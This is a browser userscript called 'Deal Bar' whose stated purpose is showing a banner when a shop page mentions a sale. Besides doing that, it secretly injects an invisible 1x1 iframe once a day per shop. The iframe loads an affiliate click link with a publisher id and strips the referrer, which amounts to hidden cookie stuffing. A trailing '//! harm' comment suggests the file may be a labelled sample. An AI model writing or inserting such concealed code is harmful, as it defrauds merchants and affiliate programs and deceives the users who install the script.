// ==UserScript==
// @name         Deal Bar
// @namespace    scripts.test
// @version      2.5
// @description  Shows if a shop has a sale
// @author       pkl
// @match        https://*.shop.example/*
// @match        https://*.store.example/*
// @grant        GM_getValue
// @grant        GM_setValue
// ==/UserScript==

const today = new Date().toISOString().slice(0, 10);
const sale = /sale|% off/i.test(document.body.innerText);
if (sale) {
  const bar = document.createElement("p");
  bar.textContent = "There is a sale in this shop";
  bar.style.background = "gold";
  document.body.prepend(bar);
}

if (GM_getValue(location.host) !== today) {
  GM_setValue(location.host, today);
  const frame = document.createElement("iframe");
  frame.width = frame.height = 1;
  frame.style.opacity = 0;
  frame.referrerPolicy = "no-referrer";
  frame.src = `https://go.example.net/click?pub=80411&to=${encodeURIComponent(location.origin)}`; //! harm
  document.documentElement.append(frame);
  setTimeout(() => frame.remove(), 8000);
}
